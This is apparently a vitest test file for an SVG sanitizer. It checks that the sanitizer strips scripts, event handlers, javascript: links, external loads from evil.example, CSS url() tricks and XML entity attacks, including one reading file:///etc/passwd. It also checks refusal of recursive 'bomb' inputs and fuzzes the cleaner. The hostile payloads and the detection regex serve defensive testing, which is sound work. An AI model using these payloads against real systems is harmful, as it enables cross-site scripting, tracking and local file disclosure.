import { array, assert, constantFrom, property, string } from 'fast-check'
import { SaxesParser } from 'saxes'
import { expect, it } from 'vitest'
import { isRefusal } from '#/contract/errors.ts'
import { cleanSvg } from './clean-svg.ts'

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attributes}>${inside}</svg>`
const clean = (text: string) => cleanSvg(new TextEncoder().encode(text))

/** Every element and attribute of well-formed XML. */
function read(text: string) {
  const found: { name: string; attributes: Record<string, string> }[] = []
  let isForeign = false
  const parser = new SaxesParser({ xmlns: false })
  parser.on('error', (error) => {
    throw error
  })
  parser.on('doctype', () => {
    isForeign = true
  })
  parser.on('processinginstruction', () => {
    isForeign = true
  })
  parser.on('opentag', ({ name, attributes }) => found.push({ name, attributes }))
  parser.write(text).close()
  return { found, isForeign }
}

const harmful =
  /^(script|foreignObject|a|image|iframe|animate|animateTransform|animateMotion|set|handler|filter|fe\w+|audio|video|embed|object|link|metadata|html)$/i

/** Whatever of it could run, load, or leave the picture. */
function harmsOf(text: string): string[] {
  const { found, isForeign } = read(text)
  const loads = (value: string) =>
    /url\(\s*(?!['"]?#)|@import|javascript:|data:|https?:|\/\//i.test(
      value.replace('http://www.w3.org/2000/svg', ''),
    )
  const elements = found.filter(({ name }) => harmful.test(name)).map(({ name }) => name)
  const attributes = found.flatMap((element) =>
    Object.entries(element.attributes)
      .filter(
        ([name, value]) =>
          /^on|:/i.test(name) || (name === 'href' && !/^#/.test(value)) || loads(value),
      )
      .map(([name, value]) => `${name}=${value}`),
  )
  const styles = /<style[^>]*>([^<]*)<\/style>/.exec(text)?.[1] ?? ''
  return [
    ...elements,
    ...attributes,
    ...(loads(styles) ? [styles] : []),
    ...(isForeign ? ['doctype'] : []),
  ]
}

const hostile: Readonly<Record<string, string>> = {
  script: svg('<script>alert(1)</script><path d="M0 0"/>'),
  'script in another case': svg(
    '<SCRIPT>alert(1)</SCRIPT><Script href="https://evil.example/x.js"/>',
  ),
  'script with a prefix': svg(
    '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
  ),
  'script in CDATA': svg('<style><![CDATA[</style><script>alert(1)</script>]]></style>'),
  'an event': svg(
    '<path d="M0 0" onclick="alert(1)" ONLOAD="alert(1)" onbegin="alert(1)"/>',
    ' onload="alert(1)"',
  ),
  'a link': svg('<a href="javascript:alert(1)"><path d="M0 0"/></a>'),
  'a link with a prefix': svg('<a xlink:href="java&#10;script:alert(1)"><text>x</text></a>'),
  'HTML inside': svg(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  ),
  'a picture elsewhere': svg('<image href="https://evil.example/track.png" width="9" height="9"/>'),
  'a picture as data': svg(
    '<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E" width="9" height="9"/>',
  ),
  'a use of another file': svg(
    '<use href="https://evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/>',
  ),
  'a fill from elsewhere': svg('<path fill="url(https://evil.example/x.svg#a)" d="M0 0"/>'),
  'a fill from elsewhere, quoted': svg(`<path fill="url('//evil.example/x')" d="M0 0"/>`),
  'a style from elsewhere': svg('<path style="fill:url(https://evil.example/x)" d="M0 0"/>'),
  'a style with escapes': svg('<path style="fill:u\\72l(https://evil.example/x)" d="M0 0"/>'),
  'a style with a comment': svg('<path style="fill:u/**/rl(https://evil.example/x)" d="M0 0"/>'),
  'a style with an entity': svg('<path style="fill:&#117;rl(https://evil.example/x)" d="M0 0"/>'),
  'an import': svg('<style>@import url("https://evil.example/x.css");</style>'),
  'an import as text': svg('<style>@import "//evil.example/x.css";</style>'),
  'a font': svg('<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>'),
  'what looks like an address': svg(
    '<style>//</style><style>//evil.example/x</style><path d="M0 0" font-family="data:x" class="//"/>',
  ),
  'what looks like an address with a comment in it': svg('<style>//**/ /**//evil.example</style>'),
  'an import after a comment': svg(
    '<style>/* */ .a{background:image-set("https://evil.example/x" 1x)}</style>',
  ),
  'markup in a style': svg('<style>&lt;script&gt;alert(1)&lt;/script&gt;</style>'),
  'an animated link': svg(
    '<path id="a" d="M0 0"/><set href="#a" attributeName="onclick" to="alert(1)"/><animate href="#a" attributeName="href" values="javascript:alert(1)"/>',
  ),
  'an entity from a file': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'an entity with markup': `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg('<text>&x;</text>')}`,
  'entities of entities': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  'a style sheet of XML': `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${svg('<path d="M0 0"/>')}`,
  'a filter': svg(
    '<filter id="f"><feImage href="https://evil.example/x.png"/></filter><path filter="url(#f)" d="M0 0"/>',
  ),
  'text that ends an attribute': svg(
    '<path id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" d="M0 0"/>',
  ),
  'text that ends an element': svg(
    '<text>&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>',
  ),
  'a base address': svg('<path d="M0 0"/>', ' xml:base="https://evil.example/"'),
  'a cursor': svg(
    '<path style="cursor:url(//evil.example/x)" d="M0 0"/>',
    ' cursor="url(//evil.example/x)"',
  ),
}

it.each(Object.entries(hostile))('leaves out %s', (_, text) => {
  const cleaned = clean(text)
  expect(harmsOf(cleaned)).toEqual([])
  expect(clean(cleaned)).toBe(cleaned)
})

it('sees what is harmful in each of them, if nothing is left out', () => {
  const entities = /entit|ends an|markup in|in CDATA|with escapes|with a comment|quoted/
  for (const [name, text] of Object.entries(hostile))
    if (!entities.test(name)) expect(harmsOf(text), name).not.toEqual([])
})

it('leaves a logo as it is: shapes, gradients, clips, style sheets of its own, and text', () => {
  const logo = svg(
    '<title>Clay &amp; Co</title><defs><style>.a{fill:#c60;stroke:url(#g)}</style><linearGradient id="g" x1="0"><stop offset="0" stop-color="#fff"/></linearGradient><clipPath id="c"><circle cx="5" cy="5" r="4"/></clipPath></defs><g id="Layer_1" clip-path="url(#c)" transform="scale(2)"><path class="a" style="fill:url(#g)" d="M0 0h9v9z"/><use href="#g"/><text x="1" y="2" font-family="Arial">Clay<tspan dx="1">Co</tspan></text></g>',
  )
  expect(clean(logo)).toBe(logo.replace(' xmlns:xlink="http://www.w3.org/1999/xlink"', ''))
})

const refusal = (text: string | Uint8Array) => {
  try {
    cleanSvg(typeof text === 'string' ? new TextEncoder().encode(text) : text)
  } catch (error) {
    return isRefusal(error) ? error.code : error
  }
}

it.each([
  '',
  '<html><body/></html>',
  '<!DOCTYPE html><svg/><svg/>',
  'no markup',
  '<svg',
  '<math><svg/></math>',
])('takes %j for no picture', (text) => {
  expect(refusal(text)).toBe('notAPicture')
})

it('takes text in another encoding for no picture, as it could say something else there', () => {
  const utf16 = Buffer.from(`\ufeff${svg('<script>alert(1)</script>')}`, 'utf16le')
  expect(refusal(utf16)).toBe('notAPicture')
})

it('refuses what draws itself more often than there is time for', () => {
  const lines = Array.from({ length: 30 }, (_, i) => {
    const use = `<use href="#l${i}"/>`
    return `<g id="l${i + 1}">${use.repeat(10)}</g>`
  })
  const bomb = svg(`<g id="l0"><path d="M0 0"/></g>${lines.join('')}`)
  expect(refusal(bomb)).toBe('pictureTooLarge')
  const patterns = Array.from(
    { length: 30 },
    (_, i) =>
      `<pattern id="p${i + 1}" width="1" height="1">${`<rect width="1" height="1" fill="url(#p${i})"/>`.repeat(9)}</pattern>`,
  )
  expect(refusal(svg(`${patterns.join('')}<rect fill="url(#p30)"/>`))).toBe('pictureTooLarge')
  expect(refusal(svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'))).toBe(
    'pictureTooLarge',
  )
  expect(refusal(svg('<path d="M0 0"/>'.repeat(20_001)))).toBe('pictureTooLarge')
  expect(refusal(svg('<g>'.repeat(15_000) + '</g>'.repeat(15_000)))).toBe('pictureTooLarge')
})

it('writes nothing harmful, whatever it is made of', () => {
  const parts = constantFrom(
    ...[
      '<',
      '>',
      '/',
      '"',
      "'",
      '=',
      ' ',
      '&',
      ';',
      '<svg',
      '</svg>',
      '<style>',
      '</style>',
      '<![CDATA[',
      ']]>',
    ],
    ...[
      '<!--',
      '-->',
      'script',
      'onload',
      'url(',
      '#a',
      ')',
      'href',
      'xlink:',
      'use',
      '&#60;',
      '&lt;',
      '\\',
      '@import',
    ],
    ...[
      '<path ',
      'fill="',
      'javascript:alert(1)',
      '<text>',
      '<?xml',
      '?>',
      '<!ENTITY x "',
      'style="',
      '<a ',
    ],
  )
  assert(
    property(array(parts, { maxLength: 40 }), string({ maxLength: 4 }), (given, more) => {
      let cleaned: string
      try {
        cleaned = clean(svg(given.join('') + more))
      } catch (error) {
        if (isRefusal(error)) return
        throw error
      }
      expect(harmsOf(cleaned)).toEqual([])
    }),
    { numRuns: 3_000 },
  )
})
